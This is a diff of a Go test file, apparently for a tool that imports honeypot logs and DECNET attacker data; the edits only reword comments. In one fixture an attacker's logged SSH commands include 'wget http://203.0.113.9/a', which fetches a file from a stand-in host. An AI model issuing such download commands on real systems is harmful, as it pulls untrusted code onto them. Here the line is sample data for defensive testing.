@@ -60,7 +60,7 @@ func sum(t *testing.T, jsonLines, name string) int {
 	return total
 }
 
-// source returns the line of one source.
+// source returns a source's line.
 func source(t *testing.T, jsonLines, name string) string {
 	t.Helper()
 	for _, line := range strings.Split(jsonLines, "\n") {
@@ -112,8 +112,8 @@ func importLogs(t *testing.T, h testlogs.History) {
 	}
 }
 
-// compressedCopies writes the logs under other names, compressed where they
-// were not and the other way round, two of them joined into one.
+// compressedCopies writes the logs under other names, the plain ones compressed and the
+// reverse, and two of them joined into one.
 func compressedCopies(t *testing.T, h testlogs.History) string {
 	t.Helper()
 	to := t.TempDir()
@@ -164,7 +164,7 @@ func buildDECNET(t *testing.T, path string) {
 	attacker := func(uuid, ip string, identity any, commands string) {
 		exec(`INSERT INTO attackers VALUES (?,?,?,?,?,?,?,?)`, uuid, ip, identity, "2026-05-01 00:00:00", "2026-05-09 10:11:12.123456", commands, "DE", 64496)
 	}
-	// Profiler, collector and older shape; one without text, one that is no object.
+	// Profiler, collector and older form; one without text, one that is not an object.
 	attacker(knownAttacker, "203.0.113.7", nil, `[
 		{"service":"ssh","decky":"web-1","command":"wget http://203.0.113.9/a","timestamp":"2026-05-02T03:04:05+00:00"},
 		{"id":"cmd_42","command_text":"uname -a","ts":"2026-05-03 03:04:05","decky":"web-1","service":"ssh","uid":"0","user":"root"},
@@ -184,8 +184,7 @@ func buildDECNET(t *testing.T, path string) {
 	trigger("trg-3", "tok-2", "198.51.100.9", "curl/8.5.0", `not an object`, nil) // known by its address alone
 }
 
-// lifterRules are rules of DECNET's with built-in predicates, one of which the
-// program does not have.
+// lifterRules are DECNET rules with built-in predicates, one of which is unknown.
 func lifterRules(t *testing.T) string {
 	t.Helper()
 	dir := t.TempDir()
